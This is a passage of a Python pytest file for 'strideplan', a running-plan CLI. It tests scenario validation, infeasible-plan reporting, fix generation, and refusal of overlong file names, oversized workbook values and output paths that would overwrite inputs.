        BASE + "races: [{date: 2027-01-10, distance: 7.5}, {date: 2027-01-17, distance: 0.8}]\n"
    )
    from strideplan.scenario import load_scenario

    assert [r.distance for r in load_scenario(path).races] == [7.5, 0.8]


def test_off_and_on_still_switch_rules(tmp_path):
    path = tmp_path / "s.yaml"
    path.write_text(
        BASE + "rules: {back_to_back_hard: off, power_on_fresh_days: on,"
        " strength_per_week: {min: 1, max: 2, hard: false}}\n"
    )
    result = invoke("solve", path, "-o", tmp_path / "p.xlsx")
    assert result.exit_code == 0, result.output
    from strideplan.scenario import load_scenario

    rules = load_scenario(path).rules
    assert not rules.back_to_back_hard.enabled and rules.power_on_fresh_days.enabled
    assert not rules.strength_per_week.hard


def test_a_race_longer_than_a_day_is_bad_input_unless_its_minutes_are_given(tmp_path):
    """Issue 20: 250 km at 6 min/km is 1500 minutes, which `check` rejects: refused at
    load; with the race's own minutes the plan round-trips through check."""
    output = bad_input(tmp_path, BASE + "races: [{date: 2027-01-10, distance: 250}]\n")
    assert "races.0.distance" in output and "1440" in output
    path = tmp_path / "given.yaml"
    path.write_text(BASE + "races: [{date: 2027-01-10, distance: 250, minutes: 1440}]\n")
    plan = tmp_path / "given.xlsx"
    assert invoke("solve", path, "-o", plan).exit_code == 0
    assert invoke("check", path, plan).exit_code == 0


@pytest.mark.parametrize(
    "extra",
    [
        "races: [{date: 2027-01-10}]\nrules: {max_runs_per_day: 0}\n",
        "runs: {tue: tempo}\nrules: {max_runs_per_day: 0}\n",
        "runs: {tue: tempo}\nrules: {max_sessions_per_day: 0}\n",
    ],
)
def test_a_fixed_run_beyond_a_daily_limit_is_infeasible_not_a_bug(tmp_path, extra):
    """Issue 20: the model lets fixed runs and races through where the checker counts
    them; now both count them, and no plan holds (exit 1, explained)."""
    path = tmp_path / "s.yaml"
    path.write_text(BASE + extra)
    result = invoke("solve", path, "-o", tmp_path / "p.xlsx")
    assert result.exit_code == 1, result.output
    assert "per_day" in result.output and not (tmp_path / "p.xlsx").exists()


def _value_shapes(key: str) -> list:
    return [None, "off", 2, [1, 3], {"A": 3}, {"B": 1}, {"hard": False}, {"A": 3, "hard": False}]


def test_every_fix_generator_takes_every_value_shape_a_rule_accepts():
    """Issue 20: explain's fixes crashed on `race_taper` left to the distance (None // 2).
    Every rule key, every value shape it accepts: the fixes are built and each is a
    valid scenario or cleanly refused."""
    from strideplan.calendar import Calendar
    from strideplan.explain import candidate_fixes
    from strideplan.rules import RULES_BY_KEY
    from strideplan.scenario import with_overrides

    base = {
        **QUIET,
        "weeks": 2,
        "runs": {"tue": "tempo", "easy_runs": 1},
        "races": [
            {"date": "2027-01-17", "distance": "marathon", "priority": "A"},
            {"date": "2027-01-10", "distance": 5, "priority": "C"},
        ],
    }
    keys = [*RULES_BY_KEY, "runs.easy_runs", "runs.tue", "athlete.gym", "athlete.availability"]
    tried = 0
    for key in keys:
        for value in _value_shapes(key):
            data = copy.deepcopy(base)
            if value is not None and key in RULES_BY_KEY:
                data["rules"] = {**data["rules"], key: value}
            try:
                sc = validate(data, "t")
            except ScenarioError:
                continue
            cal = Calendar(sc)
            for fix in candidate_fixes(sc, key, [cal.days[1].place(), cal.week_place(0)]):
                tried += 1
                try:
                    with_overrides(data, fix, "fix")
                except ScenarioError:
                    pass
    assert tried > 100


def test_a_name_too_long_for_the_system_is_bad_input(tmp_path):
    """Issue 20: a 300-character file name gave exit 3 (OSError); now exit 2 naming it."""
    import shutil

    long = "a" * 300
    mine = tmp_path / "mine.yaml"
    shutil.copy(ROOT / "scenarios" / "10k_build.yaml", mine)
    for args in (
        ("solve", tmp_path / f"{long}.yaml"),
        ("solve", mine, "-o", tmp_path / f"{long}.xlsx"),
        ("solve", mine, "-o", tmp_path / long / "p.xlsx"),
        ("check", mine, tmp_path / f"{long}.xlsx"),
        ("ics", tmp_path / f"{long}.xlsx"),
    ):
        result = invoke(*args)
        assert result.exit_code == 2, (args, result.output)
        assert long in result.output and "too long" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine.yaml"]


def test_check_refuses_a_value_no_cell_could_hold_at_once(plan_file, tmp_path, monkeypatch):
    """Issue 20: one 50 MB attribute made `check` take minutes (the XML parser is
    quadratic in a token's length); a part or a value beyond a plan's is refused."""
    import strideplan.excel as excel

    huge = (
        '<c r="E2" t="inlineStr" x="'
        + "a" * (excel.MAX_TOKEN_BYTES + 1)
        + '"><is><t>power</t></is></c>'
    )
    result = _check(_xml_edited(plan_file, tmp_path, "E2", huge))
    assert result.exit_code == 2, result.output
    assert "sheet3.xml" in result.output and "holds a value" in result.output
    assert _check(plan_file).exit_code == 0
    monkeypatch.setattr(excel, "MAX_PART_BYTES", 10_000)
    result = _check(plan_file)
    assert result.exit_code == 2 and "parts are at most" in result.output, result.output


def test_a_set_value_is_reported_as_the_user_spelled_it(tmp_path):
    """Issue 20: `--set start=2027-03-02` was shown as datetime.date(2027, 3, 2) at the
    file's line 2; a value from --set is reported as --set, a file value with its line."""
    output = bad_input(tmp_path, BASE, "--set", "start=2027-03-02")
    assert "--set start=2027-03-02" in output and "Tuesday" in output
    assert "datetime" not in output and "line" not in output
    output = bad_input(tmp_path, BASE + "races: [{date: 2027-01-17}]\n", "--set", "weeks=1")
    assert "races.0.date (line 4)" in output and "after --set weeks=1" in output


def test_replan_output_over_its_log_is_refused(tmp_path):
    plan = tmp_path / "plan.xlsx"
    sc = ROOT / "scenarios" / "10k_build.yaml"
    assert invoke("solve", sc, "-o", plan).exit_code == 0
    log = tmp_path / "log.csv"
    log.write_text("date,session,status\n2027-01-05,intervals,done\n")
    before = log.read_bytes()
    result = invoke("replan", sc, plan, "--today", "2027-01-11", "--log", log, "-o", log)
    assert result.exit_code == 2 and "input" in result.output, result.output
    assert log.read_bytes() == before


def test_split_over_an_input_is_refused(tmp_path):
    """A squad file named like an athlete's split plan is never replaced by it."""
    text = (ROOT / "scenarios" / "squads" / "club_squad.yaml").read_text()
    squad = yaml.safe_load(text)
    first = squad["athletes"][0]["name"]
    path = tmp_path / f"{first}.xlsx"  # a YAML squad under an odd name
    path.write_text(text)
    result = invoke("solve", path, "-o", tmp_path / "squad.xlsx", "--split", tmp_path)
    assert result.exit_code == 2 and "input" in result.output, result.output
    assert path.read_text() == text and not (tmp_path / "squad.xlsx").exists()


def test_a_stdout_closed_before_the_start_changes_nothing(tmp_path):
    """`strideplan solve ... >&-`: the workbook is written and the exit code is 0 (it was
    an internal error, exit 1, with a traceback)."""
    out = tmp_path / "p.xlsx"
    code = "from strideplan.entry import console; console()"
    args = [sys.executable, "-c", code, "solve", str(ROOT / "scenarios" / "tight_week.yaml")]
    done = subprocess.run(
        [*args, "-o", str(out)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
        close_fds=True, preexec_fn=lambda: os.close(1),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and out.exists()
